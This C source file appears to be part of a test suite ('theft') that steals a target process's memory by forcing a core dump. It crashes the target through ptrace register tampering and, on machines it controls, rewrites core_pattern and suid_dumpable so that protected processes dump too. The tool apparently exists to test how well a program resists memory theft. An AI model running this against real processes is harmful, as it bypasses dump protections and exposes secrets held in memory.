/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Kill it with a core dump: limits raised from outside, first by SIGABRT, then
 * by a fault of its own making. Where the machine is ours ($THEFT_ALTER) the
 * core goes down a pipe to a program, also that of programs that may not be
 * dumped (suid_dumpable 2). Deadly.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "theft.h"
#include "trace.h"

#define PATTERN "/proc/sys/kernel/core_pattern"
#define SUID	"/proc/sys/fs/suid_dumpable"

static bool
get(const char *path, char *text, size_t size)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd >= 0 ? read(fd, text, size - 1) : -1;

	if (fd >= 0)
		close(fd);
	text[n > 0 ? n : 0] = 0;
	text[strcspn(text, "\n")] = 0;
	return n > 0;
}

static bool
put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	bool ok = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text);

	if (fd >= 0)
		close(fd);
	return ok;
}

static bool
gone(pid_t pid, double seconds)
{
	double until = theft_now() + seconds;
	char path[64], text[256], *state = NULL;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	while (theft_now() < until) {
		if (!get(path, text, sizeof(text)))
			return true;
		state = strrchr(text, ')');
		if (state != NULL && (state[2] == 'Z' || state[2] == 'X'))
			return true;
		usleep(10000);
	}
	return false;
}

/* Make it jump to nowhere, and let it have the signal. */
static void
fault(pid_t pid)
{
	struct user_regs_struct r;

	trace_stop(pid, 0);
	trace_registers(pid, &r);
	r.rip = 0;
	r.orig_rax = (unsigned long long)-1;
	trace_set_registers(pid, &r);
	if (trace_go(pid, PTRACE_CONT) == SIGSEGV)
		ptrace(PTRACE_CONT, pid, NULL, SIGSEGV);
}

static void
collect(struct theft *t, int folder, const char *name)
{
	char piece[1 << 16];
	ssize_t n = 0;
	int fd = openat(folder, name, O_RDONLY | O_CLOEXEC | O_NOFOLLOW);

	if (fd < 0)
		return;
	while ((n = read(fd, piece, sizeof(piece))) > 0)
		theft_write(t, piece, (size_t)n);
	close(fd);
	unlinkat(folder, name, 0);
}

static void
die(const struct theft *t)
{
	const struct rlimit all = { RLIM_INFINITY, RLIM_INFINITY };

	(void)prlimit(t->pid, RLIMIT_CORE, &all, NULL); /* if refused, it may be high enough */
	if (kill(t->pid, SIGABRT) != 0)
		theft_failed("kill", errno);
	if (!gone(t->pid, 1)) /* the first process of a namespace need not care */
		fault(t->pid);
	if (gone(t->pid, 3))
		usleep(300000); /* the pipe's reader has to end too */
}

static void
through_pipe(struct theft *t)
{
	char pattern[256], suid[16], script[64], text[512], part[256];
	FILE *f = NULL;
	pid_t child = 0;

	get(PATTERN, pattern, sizeof(pattern));
	get(SUID, suid, sizeof(suid));
	snprintf(script, sizeof(script), "/tmp/theft-core-%d", (int)getpid());
	snprintf(part, sizeof(part), "%.200s.core", t->path);
	f = fopen(script, "we");
	if (f == NULL || fprintf(f, "#!/bin/sh\nexec cat >%s\n", part) < 0 ||
	    fchmod(fileno(f), 0700) != 0)
		theft_cannot("%s: %m", script);
	fclose(f);
	snprintf(text, sizeof(text), "|%s", script);
	if (!put(PATTERN, text) || !put(SUID, "2"))
		theft_refused(PATTERN ": %m");
	child = fork(); /* it may end by theft_refused; what was set is put back here */
	if (child == 0) {
		die(t);
		_exit(0);
	}
	waitpid(child, NULL, 0);
	put(PATTERN, pattern);
	put(SUID, suid);
	unlink(script);
	collect(t, AT_FDCWD, part);
	if (t->octets == 0)
		theft_refused("no core came down the pipe");
}

int
main(int argc, char **argv)
{
	static struct theft t;
	char pattern[256], path[64], name[64];
	int folder = -1;

	theft_begin(&t, argc, argv);
	if (getenv("THEFT_ALTER") != NULL) {
		through_pipe(&t);
		theft_end(&t, "core dump down a pipe");
	}
	if (!get(PATTERN, pattern, sizeof(pattern)) || strchr("|/%@", pattern[0]) != NULL)
		theft_cannot("core_pattern is \"%s\", and the machine is not ours", pattern);
	snprintf(path, sizeof(path), "/proc/%d/cwd", t.pid);
	folder = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (folder < 0)
		theft_refused("%s: %m", path);
	die(&t);
	snprintf(name, sizeof(name), "%.40s.%d", pattern, t.pid);
	collect(&t, folder, pattern);
	collect(&t, folder, name);
	if (t.octets == 0)
		theft_refused("no core file came");
	theft_end(&t, "core file");
}
